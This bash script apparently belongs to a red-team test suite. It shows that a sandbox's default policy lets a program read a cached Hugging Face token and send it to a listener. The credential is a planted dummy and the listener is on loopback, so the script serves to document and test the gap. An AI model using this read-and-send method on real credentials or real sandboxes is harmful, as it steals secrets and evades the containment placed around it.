#!/bin/bash
# Policy content (embedded default profile): `caches` ($XDG_CACHE_HOME/**) is readable and no
# secret pattern covers credentials tools keep there, e.g. Hugging Face's token at
# ~/.cache/huggingface/token (HF_HOME's default); read it, no transition, send it.
set -u; . /work/wt/redteam/findings/common.sh
D=$RT/findings/credential-in-readable-cache; W=$D/ws H=$D/home; rm -rf $W $H; mkdir -p $W $H/.cache/huggingface
gcc -O1 -I$RT/findings -o $W/readsend $RT/findings/readsend.c
echo "hf_REDTEAMhuggingfaceTOKEN77" > $H/.cache/huggingface/token
listen 127.77.9.28 $D/out.txt
(cd $W; env HOME=$H PATH=/usr/bin:/bin timeout 60 $CLAW exec --workspace $W -- ./readsend 127.77.9.28 plain $H/.cache/huggingface/token)
verdict $D/out.txt hf_REDTEAM
